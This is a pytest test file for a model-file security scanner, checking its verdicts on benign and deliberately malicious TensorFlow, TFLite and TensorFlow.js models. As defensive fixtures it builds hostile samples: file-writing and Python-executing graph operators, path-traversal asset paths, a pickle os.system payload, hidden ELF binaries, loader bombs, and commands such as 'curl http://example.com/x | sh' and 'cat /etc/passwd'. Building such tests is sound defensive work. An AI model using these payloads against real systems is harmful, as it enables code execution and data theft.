"""What the scanner says of TensorFlow's models: those that TensorFlow wrote, and attacks written byte by byte."""

import io
import json
import tarfile
import zipfile

import pytest

from tests.scan.samples import scan, scan_folder
from tests.tensorflowfiles import (
    ECHO,
    REAL,
    Table,
    call,
    entry,
    field,
    function,
    graph,
    index,
    keras_metadata,
    lite,
    meta_graph,
    model,
    node,
    number,
    operator_code,
    saved_model,
    shape,
    string,
    table,
    text,
)
from weighbridge.core.evidence import Outcome
from weighbridge.core.finding import Severity
from weighbridge.scan.engine import Scan

FAIL, UNKNOWN, PASS = Outcome.FAIL, Outcome.UNKNOWN, Outcome.PASS


def outcomes(result: Scan) -> dict[str, Outcome]:
    return {file.path: file.outcome for file in result.files}


def errors(result: Scan) -> set[str]:
    return {finding.rule for finding in result.findings if finding.severity is Severity.ERROR}


def one(data: bytes, name: str = "saved_model.pb") -> tuple[Outcome, set[str]]:
    """(outcome, rules) of one file."""
    result = scan({name: data})
    assert not [item for item in result.unread if item.code == "internal-error"], result.unread
    return result.files[0].outcome, {finding.rule for finding in result.findings}


# -- what TensorFlow wrote


@pytest.mark.parametrize("name", ["plain", "vocabulary", "flow", "tf1/saved"])
def test_whole_saved_models_pass(name: str) -> None:
    result = scan_folder(REAL / name)
    assert set(outcomes(result).values()) == {PASS}, (result.findings, result.unread)
    assert result.findings == ()


@pytest.mark.parametrize(
    "name",
    [
        "pipeline.pb",
        "plain.tflite",
        "flow.tflite",
        "tf1/frozen.pb",
        "tf1/graph.pbtxt",
        "tf1/model.ckpt-3.meta",
    ],
)
def test_real_files_pass(name: str) -> None:
    data = (REAL / name).read_bytes()
    assert one(data, name.rpartition("/")[2]) == (PASS, set())
    assert one(data, "model.bin") == (PASS, set())


@pytest.mark.parametrize(
    ("name", "operator"),
    [
        ("write.pb", "WriteFile"),
        ("nested.pb", "ReadFile"),
        ("python.pb", "EagerPyFunc"),
        ("printing.pb", "PrintV2"),
        ("save.pb", "SaveV2"),
        ("cached.pb", "CacheDatasetV2"),
        ("write.tflite", "FlexWriteFile"),
    ],
)
def test_real_files_with_a_harmful_operator_fail(name: str, operator: str) -> None:
    result = scan({name: (REAL / name).read_bytes()})
    assert outcomes(result) == {name: FAIL}
    assert [finding.message.split()[0] for finding in result.findings] == [operator]


def test_the_place_names_meta_graph_function_and_node() -> None:
    result = scan({"saved_model.pb": (REAL / "nested.pb").read_bytes()})
    (finding,) = result.findings
    assert finding.place.parts == ("meta graph 0", "function cond_true_364", "node cond/ReadFile")


def test_a_version_1_checkpoint_is_unknown_with_the_reason() -> None:
    result = scan({"model.ckpt": (REAL / "version1.ckpt").read_bytes()})
    assert outcomes(result) == {"model.ckpt": UNKNOWN}
    assert [item.code for item in result.unread] == ["not-parsed"]


def test_evil_graphs_fail_inside_archives_too() -> None:
    data = (REAL / "write.pb").read_bytes()
    packed, taped = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("m/saved_model.pb", data)
    with tarfile.open(fileobj=taped, mode="w:gz") as tape:
        info = tarfile.TarInfo("m/saved_model.pb")
        info.size = len(data)
        tape.addfile(info, io.BytesIO(data))
    for name, content in {"m.zip": packed.getvalue(), "m.tar.gz": taped.getvalue()}.items():
        assert one(content, name) == (FAIL, {"tensorflow-unsafe-operator"})


# -- operators

X = node("x", "Placeholder")
PATH = string("path", "/tmp/weighbridge-sample")
UNSAFE, UNSURE = "tensorflow-unsafe-operator", "tensorflow-unknown-operator"

HARMFUL = {
    "python": model(X, node("p", "PyFunc", "x", token=text("pyfunc_0"))),
    "python-stateless": model(X, node("p", "PyFuncStateless", "x")),
    "in-the-second-meta-graph": saved_model(meta_graph(graph(X)), meta_graph(graph(PATH, node("r", "ReadFile", "path")))),
    "in-a-function-nobody-calls": model(X, functions=[function("f", PATH, node("r", "ReadFile", "path"))]),
    "named-by-an-attribute": model(X, node("c", "MapDataset", "x", f=call("WriteFile"))),
    "named-in-a-list": model(X, node("c", "Case", "x", branches=field(1, field(9, field(1, "ReadFile"))))),
    "named-inside-a-named-function": model(
        X, node("c", "PartitionedCall", "x", f=field(10, field(1, "f") + field(2, field(1, "g") + field(2, call("PyFunc"))))),
        functions=[function("f", node("a", "NoOp"))],
    ),
    "debug-urls": model(X, node("d", "DebugIdentity", "x", debug_urls=field(1, field(2, "grpc://example.com:1")))),
    "debugger-copy": model(X, node("d", "Copy", "x", debug_ops_spec=field(1, field(2, "DebugIdentity;file:///tmp/x;0")))),
    "memory-map": model(node("i", "ImmutableConst", memory_region_name=text("/tmp/x"))),
    "remote-call": model(X, node("r", "RemoteCall", "x", f=call("f")), functions=[function("f", node("a", "NoOp"))]),
    "rpc": model(X, node("r", "RpcClient", "x")),
    "collective": model(X, node("r", "CollectiveReduceV2", "x")),
    "records": model(PATH, node("d", "TFRecordDataset", "path")),
    "serialized-graph": model(string("g", "graph"), node("d", "DatasetFromGraph", "g")),
    "abort": model(node("a", "Abort")),
    "summary-file": model(PATH, node("s", "CreateSummaryFileWriter", "x", "path")),
    "print-to-file": model(X, node("p", "PrintV2", "x", output_stream=text("file:///tmp/x"))),
    "cache-in-a-file": model(PATH, node("c", "CacheDatasetV2", "x", "path")),
    "table-from-outside": model(PATH, node("t", "InitializeTableFromTextFileV2", "table", "path")),
    "table-through-variable": model(
        PATH, node("v", "VarHandleOp"), node("a", "AssignVariableOp", "v", "path"), node("r", "ReadVariableOp", "v"),
        node("t", "InitializeTableFromTextFileV2", "table", "r"), assets=[("vocab.txt", "other:0")],
    ),
    "sampler-vocabulary": model(X, node("s", "FixedUnigramCandidateSampler", "x", vocab_file=text("/tmp/x"))),
    "descriptor-file": model(X, node("s", "DecodeProtoV2", "x", descriptor_source=text("/tmp/x"))),
    "save-absolute": model(PATH, node("s", "SaveV2", "path")),
    "save-relative": model(string("p", "weights/x"), node("s", "SaveV2", "p")),
    "save-beside-the-saver": model(
        node("f", "Placeholder"), string("p", "/tmp/x"), node("c", "Select", "x", "f", "p"), node("s", "SaveV2", "c"), saver="f:0"
    ),
    "save-behind-the-saver": model(
        node("f", "Placeholder"), string("p", "/../../x"), node("j", "StringJoin", "f", "p"), node("s", "SaveV2", "j"), saver="f:0"
    ),
    "restore-url": model(string("p", "https://example.com/w"), node("s", "RestoreV2", "p")),
    "restore-through-a-function": model(
        PATH, node("c", "PartitionedCall", "path", f=call("f")),
        functions=[function("f", node("r", "RestoreV2", "a"), arguments=["a"])],
    ),
    "restore-what-a-function-returns": model(
        node("c", "PartitionedCall", f=call("f")), node("r", "RestoreV2", "c:0"),
        functions=[function("f", PATH, results={"out": "path:output:0"})],
    ),
    "python-callback": model(X, node("c", "XlaCallModule", "x", module=text("ML\xefR xla_ffi_python_cpu_callback \0"))),
    "custom-shell": model(X, node("c", "ShellExec", "x")),
    "custom-python": model(X, node("c", "MyPyFuncOp", "x")),
}  # fmt: skip


@pytest.mark.parametrize("name", HARMFUL)
def test_harmful_operators_fail(name: str) -> None:
    assert one(HARMFUL[name]) == (FAIL, {UNSAFE})


DOUBTFUL = {
    "custom": model(X, node("c", "SampleOwnOperator", "x")),
    "test-operator": model(X, node("c", "A")),
    "no-such-function": model(X, node("c", "PartitionedCall", "x", f=call("nowhere"))),
    "compiled-module": model(X, node("c", "XlaCallModule", "x", module=text("ML\xefR"))),
    "restore-relative": model(string("p", "weights/x"), node("s", "RestoreV2", "p")),
    "save-where-told": model(X, node("s", "SaveV2", "x")),
    "table-of-no-asset": model(
        string("p", "vocab.txt"), node("t", "InitializeTableFromTextFileV2", "table", "p")
    ),
    "tpu": model(X, node("t", "TPUReplicateMetadata")),
}


@pytest.mark.parametrize("name", DOUBTFUL)
def test_operators_that_nobody_knows_are_unknown(name: str) -> None:
    assert one(DOUBTFUL[name]) == (UNKNOWN, {UNSURE})


HARMLESS = {
    "console": model(X, node("p", "PrintV2", "x", output_stream=text("stderr")), node("q", "PrintV2", "x")),
    "cache-in-memory": model(string("n", ""), node("c", "CacheDatasetV2", "x", "n")),
    "asset": model(
        node("f", "Placeholder"), node("t", "InitializeTableFromTextFileV2", "table", "f"), assets=[("vocab.txt", "f:0")]
    ),
    "asset-with-an-old-path": model(
        PATH, node("t", "InitializeTableFromTextFile", "table", "path"), assets=[("vocab.txt", "path:0")]
    ),
    "saver": model(
        string("m", "model"), node("f", "PlaceholderWithDefault", "m"), string("tail", "_temp_12/part"),
        node("j", "StringJoin", "f", "tail"), node("h", "ShardedFilename", "j", "n", "n"), node("s", "SaveV2", "h"),
        node("k", "Pack", "h", "^s"), node("g", "MergeV2Checkpoints", "k", "f"), node("r", "RestoreV2", "f"), saver="f:0",
    ),
    "saver-in-functions": model(
        node("f", "Placeholder"), node("c", "StatefulPartitionedCall", "f", f=call("save")),
        functions=[function("save", node("s", "SaveV2", "a"), arguments=["a"])], saver="f:0",
    ),
    "function-of-a-strange-name": model(X, node("c", "Sample", "x"), functions=[function("Sample", node("n", "NoOp"))]),
}  # fmt: skip


@pytest.mark.parametrize("name", HARMLESS)
def test_ordinary_operators_pass(name: str) -> None:
    assert one(HARMLESS[name]) == (PASS, set())


@pytest.mark.parametrize("wrap", [graph, lambda *nodes: meta_graph(graph(*nodes))])
@pytest.mark.parametrize("name", ["model.pb", "model.meta", "model.bin", "model"])
def test_graphs_alone_are_judged_alike(wrap, name: str) -> None:
    assert one(wrap(X, PATH, node("w", "WriteFile", "path", "x")), name) == (FAIL, {UNSAFE})
    assert one(wrap(X, node("w", "Relu", "x")), name) == (PASS, set())


def test_the_text_form_is_read_as_the_bytes_are() -> None:
    evil = 'node { name: "p" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "\\057tmp/x" } } } }\n'
    assert one(f'{evil}node {{ name: "w" op: "Write" "File" input: ["p", "p"] }}'.encode(), "g.pbtxt") == (
        FAIL,
        {UNSAFE},
    )
    assert one(f'{evil}node < name: "w" op: "SaveV2" input: "p" >'.encode(), "g.pbtxt") == (FAIL, {UNSAFE})
    assert one(
        b'# a graph\nnode { name: "x" op: "Relu" device: "" }\nversions { producer: 9 }', "g.pbtxt"
    ) == (PASS, set())
    nested = b'saved_model_schema_version: 1 meta_graphs { graph_def { node { op: "ReadFile" name: "r" } } }'
    assert one(nested, "saved_model.pbtxt") == (FAIL, {UNSAFE})
    assert one(b'item { name: "cat" id: 1 }', "labels.pbtxt") == (PASS, set())
    assert one(b'node { name: "x" op: "Relu" sample: 1 }', "g.pbtxt") == (UNKNOWN, {"tensorflow-malformed"})


# -- what stands around graphs


@pytest.mark.parametrize(
    "name", ["../../weighbridge-sample", "/etc/passwd", "https://example.com/v", "a/../../b", "C:\\v"]
)
def test_assets_outside_of_the_model_fail(name: str) -> None:
    assert one(model(X, assets=[(name, "x:0")])) == (FAIL, {"tensorflow-path-escape"})


def test_plain_assets_pass() -> None:
    assert one(model(X, assets=[("vocab.txt", "x:0")])) == (PASS, set())


LAMBDA = {
    "class_name": "Lambda",
    "config": {"function": ["4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMEAAAA", None, None]},
}


@pytest.mark.parametrize(
    "files",
    [
        {"keras_metadata.pb": keras_metadata(LAMBDA)},
        {"saved_model.pb": model(X, metadata=json.dumps(LAMBDA))},
    ],
)
def test_code_in_the_metadata_of_keras_fails(files: dict[str, bytes]) -> None:
    result = scan(files)
    assert set(outcomes(result).values()) == {FAIL}
    assert errors(result) == {"keras-lambda-layer"}


def test_classes_that_keras_replaces_by_the_graph_pass() -> None:
    own = {
        "class_name": "SampleNet",
        "config": {"layers": [{"class_name": "SampleLayer", "config": {"units": 3}}]},
    }
    assert one(keras_metadata(own), "keras_metadata.pb") == (PASS, set())
    foreign = {**own, "module": "sample.layers", "registered_name": None}
    assert one(keras_metadata(foreign), "keras_metadata.pb") == (UNKNOWN, {"keras-custom-object"})


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("io.write_file", (FAIL, {"keras-tensorflow-operation"})),
        ("numpy_function", (FAIL, {"keras-tensorflow-operation"})),
        ("math.subtract", (PASS, set())),
        ("nn.relu", (PASS, set())),
        ("sample.thing", (UNKNOWN, {"keras-tensorflow-operation"})),
    ],
)
def test_calls_of_tensorflow_in_keras_configurations(name: str, expected: tuple[Outcome, set[str]]) -> None:
    layer = {"class_name": "TFOpLambda", "config": {"name": "tf.op", "function": name}}
    assert (
        one(keras_metadata({"class_name": "Functional", "config": {"layers": [layer]}}), "keras_metadata.pb")
        == expected
    )


def test_pickles_in_collections_are_found() -> None:
    pickled = b"cos\nsystem\n(V" + ECHO.encode() + b"\ntR."
    outcome, rules = one(model(X, collection=pickled))
    assert (outcome, "pickle-unsafe-call" in rules) == (FAIL, True)


def test_programs_in_constants_and_attributes_are_found() -> None:
    elf = b"\x7fELF\x02\x01\x01".ljust(64, b"\0")
    for data in (model(number("w", 4, [64], elf)), model(node("a", "NoOp", blob=field(2, elf)))):
        assert one(data) == (FAIL, {"executable-file"})


@pytest.mark.parametrize(
    "value", [f"import os; os.system('{ECHO}')", "curl http://example.com/x | sh", "cat /etc/passwd"]
)
def test_commands_in_constants_fail(value: str) -> None:
    assert one(model(string("c", value))) == (FAIL, {"tensorflow-text-payload"})
    vocabulary = string("c", *(f"word{number}" for number in range(20)), value)
    assert one(model(vocabulary)) == (PASS, set())


MALFORMED = {
    "function-calls-itself": model(
        X, functions=[function("f", node("c", "PartitionedCall", "a", f=call("f")))]
    ),
    "functions-in-a-circle": model(
        X,
        functions=[function("f", node("c", "g")), function("g", node("c", "StatelessWhile", body=call("f")))],
    ),
    "functions-explode": model(
        X,
        functions=[
            function("f0", node("n", "NoOp")),
            *(
                function(f"f{level}", node("a", f"f{level - 1}"), node("b", f"f{level - 1}"))
                for level in range(1, 40)
            ),
        ],
    ),
    "constant-bomb": model(number("w", 1, [2**20, 2**20], b"")),
    "overflow": model(number("w", 1, [2**40, 2**40], b"")),
    "negative": model(number("w", 1, [-5], b"")),
    "too-little-data": model(number("w", 1, [100], bytes(8))),
    "no-such-type": model(number("w", 99, [1], bytes(4))),
    "string-bomb": model(
        node("c", "Const", value=field(8, field(1, 7) + field(2, shape(2**40)) + field(8, "a")))
    ),
}


@pytest.mark.parametrize("name", MALFORMED)
def test_models_that_attack_the_loader_fail(name: str) -> None:
    assert one(MALFORMED[name]) == (FAIL, {"tensorflow-malformed"})


def test_unknown_fields_and_doubled_attributes_are_doubts() -> None:
    assert one(model(X) + field(77, b"x")) == (UNKNOWN, {"tensorflow-malformed"})
    twice = field(1, "n") + field(2, "NoOp") + field(2, "Relu")
    assert one(model(twice)) == (UNKNOWN, {"tensorflow-malformed"})


def test_what_stands_before_broken_bytes_is_judged_all_the_same() -> None:
    evil = model(PATH, node("w", "WriteFile", "path", "path"))
    elf = b"\x7fELF\x02\x01\x01".ljust(64, b"\0")
    assert one(evil + b"\xff" * 20)[0] is FAIL
    assert one(evil + elf) == (FAIL, {UNSAFE, "executable-file"})
    assert one(model(X) + elf) == (FAIL, {"executable-file"})
    assert one(model(X) + b"\xff" * 20)[0] is UNKNOWN


def test_the_last_of_two_operators_counts() -> None:
    twice = field(1, "n") + field(2, "NoOp") + field(2, "ReadFile")
    assert one(model(twice))[0] is FAIL


# -- checkpoints

W = {"w": entry(1, [2], 0, 8)}
SHARD = "v.data-00000-of-00001"


def test_a_checkpoint_and_its_shard_pass() -> None:
    result = scan({"v.index": index(W), SHARD: b"\x9a\x99\x99\x3e\x00\x00\x80\xbf"})
    assert outcomes(result) == {"v.index": PASS, SHARD: PASS}
    assert result.findings == ()


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (None, {"v.index": UNKNOWN}),
        (bytes(4), {"v.index": FAIL, SHARD: PASS}),
        (bytes(99), {"v.index": PASS, SHARD: UNKNOWN}),
    ],
)
def test_shards_are_held_against_their_index(data: bytes | None, expected: dict[str, Outcome]) -> None:
    files = {"v.index": index(W)} | ({SHARD: data} if data is not None else {})
    result = scan(files)
    assert outcomes(result) == expected
    assert {finding.rule for finding in result.findings} == {"tensorflow-shard"}


def test_a_program_in_a_shard_fails() -> None:
    elf = b"\x7fELF\x02\x01\x01".ljust(64, b"\0")
    result = scan(
        {"v.index": index({"a": entry(1, [2], 0, 8), "w": entry(4, [64], 8, 64)}), SHARD: b"\x01" * 8 + elf}
    )
    assert outcomes(result) == {"v.index": PASS, SHARD: FAIL}
    assert errors(result) == {"tensorflow-shard", "executable-file"}


@pytest.mark.parametrize(
    "data",
    [
        index({"w": entry(1, [2], 0, 8, shard=3)}),
        index({"w": entry(1, [2**40, 2**40], 0, 8)}),
        index({"w": entry(1, [2], 2**63, 8)}),
        index({"w": entry(1, [1000], 0, 8)}),
        index({"w": entry(77, [2], 0, 8)}),
        index(W, shards=2**31),
        table([(b"", field(1, 1))], handle=(2**40, 100)),
    ],
)
def test_indexes_that_lie_fail(data: bytes) -> None:
    outcome, rules = one(data, "v.index")
    assert (outcome, "tensorflow-malformed" in rules) == (FAIL, True)


def test_compressed_blocks_are_unknown() -> None:
    assert one(table([(b"", field(1, 1))], codec=1), "v.index")[0] is UNKNOWN


@pytest.mark.parametrize(
    "path",
    ["../../weighbridge-sample/m", "/srv/weighbridge-sample/m", "gs://example/m", "\\\\host\\m", "\\x2e./m"],
)
def test_checkpoint_paths_outside_of_the_model_fail(path: str) -> None:
    state = f'model_checkpoint_path: "{path}"\nall_model_checkpoint_paths: "m"\n'.encode()
    assert one(state, "checkpoint") == (FAIL, {"tensorflow-path-escape"})


def test_the_folder_of_the_training_is_a_doubt_where_the_checkpoint_lies_beside() -> None:
    state = b'model_checkpoint_path: "/home/somebody/train/m-1"\n'
    result = scan({"checkpoint": state, "m-1.index": index({}), "m-1.data-00000-of-00001": b""})
    assert outcomes(result)["checkpoint"] is UNKNOWN


def test_relative_checkpoint_paths_pass() -> None:
    state = (REAL / "tf1" / "checkpoint").read_bytes()
    assert one(state, "checkpoint") == (PASS, set())


# -- TensorFlow Lite

CUSTOM, LITE = "tflite-custom-operator", "tflite-malformed"
ELF = b"\x7fELF\x02\x01\x01".ljust(64, b"\0")
CALL = Table({0: ("I", 0), 1: [0], 2: [1]})

LITES = {
    "plain": (lite(), PASS, set()),
    "detection": (lite([operator_code(32, "TFLite_Detection_PostProcess")]), PASS, set()),
    "flex-computes": (lite([operator_code(32, "FlexErf")]), PASS, set()),
    "flex-python": (lite([operator_code(32, "FlexPyFunc")]), FAIL, {CUSTOM}),
    "flex-read": (lite([operator_code(32, "FlexReadFile")]), FAIL, {CUSTOM}),
    "flex-save": (lite([operator_code(32, "FlexSaveV2")]), FAIL, {CUSTOM}),
    "flex-print-to-file": (lite([operator_code(32, "FlexPrintV2")], options=b"\x07PrintV2 output_stream\0file:///tmp/x"), FAIL, {CUSTOM}),
    "flex-unknown": (lite([operator_code(32, "FlexSampleOp")]), UNKNOWN, {CUSTOM}),
    "custom": (lite([operator_code(32, "SampleOp")]), FAIL, {CUSTOM}),
    "custom-well-known": (lite([operator_code(32, "edgetpu-custom-op")]), UNKNOWN, {CUSTOM}),
    "custom-nameless": (lite([operator_code(32, "")]), FAIL, {CUSTOM}),
    "custom-shell": (lite([operator_code(32, "RunShellCommand")]), FAIL, {CUSTOM}),
    "listed-and-not-called": (lite([operator_code(0), operator_code(32, "FlexWriteFile")]), FAIL, {CUSTOM}),
    "newer-than-known": (lite([operator_code(400)]), UNKNOWN, {CUSTOM}),
    "no-built-in": (lite([operator_code(4000)]), FAIL, {CUSTOM}),
    "program-in-a-buffer": (lite(data=ELF, dims=[64], dtype=3), FAIL, {"executable-file"}),
    "program-in-options": (lite([operator_code(32, "SampleOp")], options=ELF), FAIL, {CUSTOM, "executable-file"}),
    "no-such-operator": (lite(operator=Table({0: ("I", 9), 1: [0], 2: [1]})), FAIL, {LITE}),
    "no-such-tensor": (lite(inputs=[1000]), FAIL, {LITE}),
    "negative-tensor": (lite(outputs=[-2]), FAIL, {LITE}),
    "left-out-input": (lite(inputs=[0, -1]), PASS, set()),
    "no-such-buffer": (lite(buffer=7), FAIL, {LITE}),
    "shape-overflow": (lite(dims=[2**31 - 1] * 4), FAIL, {LITE}),
    "negative-shape": (lite(dims=[-4]), FAIL, {LITE}),
    "buffer-too-small": (lite(dims=[100]), FAIL, {LITE}),
    "no-such-type": (lite(dtype=77), FAIL, {LITE}),
    "loop-of-itself": (lite([operator_code(119)], operator=Table({**CALL, 3: ("B", 93), 4: Table({0: ("i", 0), 1: ("i", 0)})})), FAIL, {LITE}),
    "no-such-subgraph": (lite([operator_code(118)], operator=Table({**CALL, 3: ("B", 92), 4: Table({0: ("i", 1), 1: ("i", 5)})}), subgraphs=2), FAIL, {LITE}),
    "zero-stride": (lite([operator_code(3)], operator=Table({**CALL, 3: ("B", 1), 4: Table({0: ("b", 0), 1: ("i", 0), 2: ("i", 1)})})), FAIL, {LITE}),
    "data-behind-the-file": (lite(extra={4: [Table(), Table({1: ("Q", 4096), 2: ("Q", 2**40)})]}), FAIL, {LITE}),
    "outside-weights": (lite(extra={8: [Table({0: "../../weighbridge-sample"})]}), FAIL, {CUSTOM}),
    "bytes-behind": (lite() + b"\x01\x02\x03\x04" * 40, UNKNOWN, {LITE}),
    "program-behind": (lite() + ELF, FAIL, {LITE, "executable-file"}),
    "zeros-behind": (lite() + bytes(16), PASS, set()),
    "cut-off": (lite()[:-200], FAIL, {LITE}),
    "root-outside": (b"\xff\xff\xff\x7fTFL3" + bytes(100), FAIL, {LITE}),
}  # fmt: skip


@pytest.mark.parametrize("name", LITES)
def test_tensorflow_lite(name: str) -> None:
    data, outcome, rules = LITES[name]
    assert one(data, "model.tflite") == (outcome, rules)


def test_associated_files_behind_a_lite_model_belong_to_it() -> None:
    def with_zip(**members: bytes) -> bytes:
        out = io.BytesIO(lite())
        with zipfile.ZipFile(out, "a") as archive:
            for name, data in members.items():
                archive.writestr(name, data)
        return out.getvalue()

    result = scan({"model.tflite": with_zip(labels=b"cat\ndog\n")})
    assert (result.files[0].outcome, result.files[0].format, result.findings) == (PASS, "zip+tflite", ())
    assert one(with_zip(labels=b"cos\nsystem\n(V" + ECHO.encode() + b"\ntR."), "model.tflite")[0] is FAIL


# -- TensorFlow.js

WEIGHTS = "tfjs-weights"


def js(topology: object = None, paths: tuple[str, ...] = ("w.bin",), **weight: object) -> bytes:
    entries = [{"name": "w", "shape": [2], "dtype": "float32", **weight}]
    manifest = [{"paths": list(paths), "weights": entries}]
    return json.dumps(
        {"format": "graph-model", "modelTopology": topology or {}, "weightsManifest": manifest}
    ).encode()


def test_a_javascript_model_and_its_shards_pass() -> None:
    files = {"m/model.json": js({"node": [{"name": "x", "op": "Relu"}]}), "m/w.bin": bytes(range(200, 208))}
    result = scan(files)
    assert (set(outcomes(result).values()), result.findings) == ({PASS}, ())


def test_quantized_weights_are_as_long_as_they_are_stored() -> None:
    model_json = js(quantization={"dtype": "uint8", "scale": 0.1, "min": 0.0})
    assert outcomes(scan({"model.json": model_json, "w.bin": b"\xfe\x01"})) == {
        "model.json": PASS,
        "w.bin": PASS,
    }


@pytest.mark.parametrize(
    "path",
    [
        "../w.bin",
        "/etc/passwd",
        "https://example.com/w.bin",
        "data:,x",
        "a/../../w",
        "..\\w.bin",
        "//example.com/w",
    ],
)
def test_shards_outside_of_the_model_fail(path: str) -> None:
    assert one(js(paths=(path,)), "model.json") == (FAIL, {WEIGHTS})
    bare = json.dumps([{"paths": [path], "weights": []}]).encode()
    assert one(bare, "m-weights_manifest.json") == (FAIL, {WEIGHTS})


def test_shards_are_held_against_their_manifest() -> None:
    assert outcomes(scan({"model.json": js()})) == {"model.json": UNKNOWN}
    assert outcomes(scan({"model.json": js(), "w.bin": b"\xfe\x01"}))["model.json"] is FAIL
    assert outcomes(scan({"model.json": js(), "w.bin": b"\xfe\x01" * 9}))["model.json"] is UNKNOWN
    assert one(js(shape=[-2]), "model.json")[0] is FAIL
    assert one(js(dtype="sample"), "model.json")[0] is FAIL


def test_graphs_in_javascript_models_are_judged_like_others() -> None:
    evil = {
        "node": [
            {"name": "p", "op": "Const", "attr": {"value": {"tensor": {"stringVal": ["L3RtcC94"]}}}},
            {"name": "w", "op": "WriteFile", "input": ["p", "p"]},
        ]
    }
    assert one(js(evil), "model.json")[0] is FAIL
    hidden = {
        "node": [],
        "library": {"function": [{"signature": {"name": "f"}, "nodeDef": [{"name": "r", "op": "ReadFile"}]}]},
    }
    assert UNSAFE in one(js(hidden), "model.json")[1]
    saving = {"node": [evil["node"][0], {"name": "s", "op": "SaveV2", "input": ["p"]}]}
    assert UNSAFE in one(js(saving), "model.json")[1]
    assert UNSURE in one(js({"node": [{"name": "s", "op": "SampleOwn"}]}), "model.json")[1]


def test_layers_models_are_judged_by_the_rules_of_keras() -> None:
    topology = {"model_config": {"class_name": "Sequential", "config": {"layers": [LAMBDA]}}}
    assert "keras-lambda-layer" in one(js(topology), "model.json")[1]


# -- scripts that are data


@pytest.mark.parametrize(
    "script",
    [
        'module.exports = "QUJDREVGR0hJSktMTU5PUA==";',
        '"use strict";\nexports.weights = [1, 2, -.5, {a: 1, "b": [null, true]}];\n',
        "export default {shape: [2,], name: 'w'}\n",
        "// weights\nconst w = `AAAA`;\nexport { w };",
        'Object.defineProperty(exports, "__esModule", { value: true });\nexports.w = "AA";\n',
    ],
)
def test_scripts_that_are_nothing_but_data_pass(script: str) -> None:
    result = scan({"w.js": script.encode()})
    assert (result.files[0].outcome, result.files[0].format) == (PASS, "script-data")


@pytest.mark.parametrize(
    "script",
    [
        'module.exports = "AA"; sample()',
        'module.exports = "AA" + sample()',
        "const a = `x${sample()}`;",
        'var location = "https://example.com"',
        "module.exports = {get a() { return sample() }}",
        'module.exports = {__proto__: "x"}',
        "// note\u2028sample()",
        'module.exports = "AA"\n(sample)()',
        "module.exports = require",
        'module.exports = "eval(name)"',
        "exports.onload = 'x'",
    ],
)
def test_other_scripts_stay_unknown(script: str) -> None:
    result = scan({"w.js": script.encode()})
    assert (result.files[0].outcome, result.files[0].format) == (UNKNOWN, "script")


def test_what_hides_in_a_script_of_data_is_read() -> None:
    configuration = {
        "modelTopology": {"model_config": LAMBDA},
        "weightsManifest": [{"paths": ["/etc/passwd"], "weights": []}],
    }
    outcome, rules = one(b"module.exports = " + json.dumps(configuration).encode(), "model.js")
    assert (outcome, {"keras-lambda-layer", WEIGHTS} <= rules) == (FAIL, True)
